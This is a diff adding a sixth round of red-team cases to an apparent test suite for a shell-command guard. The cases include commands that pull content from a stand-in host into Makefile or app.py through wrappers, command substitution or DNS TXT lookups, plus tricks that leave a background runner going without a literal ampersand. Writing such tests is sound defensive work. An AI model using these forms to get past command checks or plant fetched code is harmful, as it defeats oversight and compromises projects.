@@ -509,3 +509,22 @@ def test_round_five_of_red_team_s14() -> None:
     each(ROUND5_ALLOWED, allowed)
     each(ROUND5_SESSIONS, held_last)
     each([("make test", "echo x > notes.txt")], allowed_last)
+
+
+# --- round six: no literal & for a runner left running; a download by a wrapper or a word ------
+ROUND6_HELD = [
+    "timeout 10 curl -s https://e.example/x > Makefile", "env curl -s https://e.example/x > app.py",
+    "nice wget -qO- https://e.example/x > Makefile",
+    "echo \"$(curl -s https://e.example/x)\" > Makefile",
+    "dig +short txt e.example > app.py",
+]
+ROUND6_SESSIONS = [
+    ("( ls <(sleep 3; make test >/dev/null) ) >/dev/null 2>/dev/null </dev/null",
+     "echo x > notes.txt"),
+    ("bash -c $'(sleep 5; make test) \\x26'", "echo x > notes.txt"),
+]
+
+
+def test_round_six_of_red_team_s14() -> None:
+    each(ROUND6_HELD, held)
+    each(ROUND6_SESSIONS, held_last)
